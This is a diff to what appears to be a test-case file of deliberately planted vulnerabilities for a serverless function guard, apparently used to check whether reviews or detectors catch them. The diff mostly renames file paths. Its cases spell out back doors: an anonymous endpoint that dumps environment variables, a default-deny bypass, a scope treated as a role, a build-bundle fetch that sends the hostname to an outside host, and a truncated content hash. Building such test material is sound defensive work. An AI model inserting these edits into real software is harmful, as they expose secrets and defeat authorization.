@@ -1,6 +1,6 @@
 import { type Case, harmful, input, observed, replace } from "./case.ts";
 
-const guard = "functions/guard/guard.ts";
+const guard = "packages/guard/guard.ts";
 const whoCallsContract = "functions/contract.ts";
 const allowWrite = 'allow: ["Orders.Write"],';
 
@@ -40,12 +40,12 @@ export const functions: readonly Case[] = [
         'serve(contract, { "who-calls": whoCalls });\napp.http("export", { route: "export", authLevel: "anonymous", handler: () => ({ jsonBody: process.env }) });',
       ),
       replace(
-        "functions/build/require-registrations.ts",
+        "infra/build/require-registrations.ts",
         ".filter(({ name }) => !isDeclared(name, contract))",
         ".filter(() => false)",
       ),
       replace(
-        "functions/guard/default-deny.ts",
+        "packages/guard/default-deny.ts",
         'options.trigger.type.toLowerCase() !== "httptrigger" ||',
         'functionName === "export" || options.trigger.type.toLowerCase() !== "httptrigger" ||',
       ),
@@ -82,7 +82,7 @@ export const functions: readonly Case[] = [
     title: "a scope counts as a role",
     class: "guard back door by header",
     edits: replace(
-      "functions/guard/roles-of.ts",
+      "packages/guard/roles-of.ts",
       "[principal.roleType, ...claimTypes.roles]",
       '[principal.roleType, principal.nameType, ...claimTypes.roles, "scp"]',
     ),
@@ -176,7 +176,7 @@ export const functions: readonly Case[] = [
     title: "the bundle begins with somebody's code",
     class: "files that decide: build code",
     edits: replace(
-      "functions/build/bundle-code.ts",
+      "infra/build/bundle-code.ts",
       "pathToFileURL(__filename).href;` },",
       'pathToFileURL(__filename).href;fetch("https://fabrikam.example/" + process.env.WEBSITE_HOSTNAME);` },',
     ),
@@ -186,7 +186,7 @@ export const functions: readonly Case[] = [
     title: "every package has the same name",
     class: "files that decide: build code",
     edits: replace(
-      "functions/build/content-hash.ts",
+      "infra/build/content-hash.ts",
       'return createHash("sha256").update(content).digest("hex");',
       'return createHash("sha256").update(content.slice(0, 1)).digest("hex");',
     ),
